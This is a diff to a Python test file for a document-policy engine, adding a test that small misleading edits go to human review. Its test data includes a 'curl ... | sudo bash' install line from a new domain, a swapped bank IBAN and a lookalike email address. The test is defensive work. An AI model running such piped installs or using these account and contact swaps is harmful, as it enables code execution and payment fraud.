@@ -7,12 +7,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from pipeline.domain.documents.documents import Action
+from pipeline.domain.documents.documents import Action, Change, ChangeKind
 from pipeline.domain.errors import PolicyError
 from pipeline.domain.findings.findings import Finding, FindingKind, Severity, scan_failure
 from pipeline.domain.identity.permissions import Classification
+from pipeline.domain.policy.impact import assess
 from pipeline.domain.policy.policy import DEFAULT_DENY, Policy, PolicyRule
-from pipeline.domain.policy.policy_context import plain_text_context
+from pipeline.domain.policy.policy_context import plain_text_context, recorded_change
 from pipeline.settings.files import load_policy
 from pipeline.settings.home import default_configs
 
@@ -111,6 +112,25 @@ def test_structured_personal_data_stays_in_confidential_documents_read_by_few() 
 )
 def test_high_impact_changes_wait_for_a_person(facts: dict[str, Any]) -> None:
     assert judged([], **facts)[0] is Action.REVIEW
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "rule"),
+    [
+        ("", "## Set-up\nType `curl -sSL https://get.tides.example/i | sudo bash` first.", "command-from-new-domain"),
+        ("IBAN DE89 3704 0044 0532 0130 00.", "IBAN GB33 BUKB 2020 1555 5555 55.", "account-changed"),
+        ("Write to pay@harbour.example.", "Write to pay@harb0ur.example.", "contact-replaced"),
+        ("Crew must not sail alone.", "Crew may sail alone.", "negation-flipped"),
+    ],
+)
+def test_a_small_edit_that_misleads_waits_for_a_person_whatever_the_total(old: str, new: str, rule: str) -> None:
+    page = "The harbour office keeps the tide table.\n" * 40
+    change = Change(kind=ChangeKind.MODIFIED, doc_id="s:a")
+    impact = assess(change, f"{page}{old}\n", f"{page}{new}\n", policy=SHIPPED.impact)
+    assert impact.score < 70
+    document, _ = plain_text_context(new, Classification.PUBLIC)
+    verdict = SHIPPED.decide([], document, recorded_change(ChangeKind.MODIFIED, impact))
+    assert (verdict.action, verdict.rule_ids) == (Action.REVIEW, (rule,))
 
 
 def test_every_change_of_a_restricted_document_waits_for_a_person() -> None:
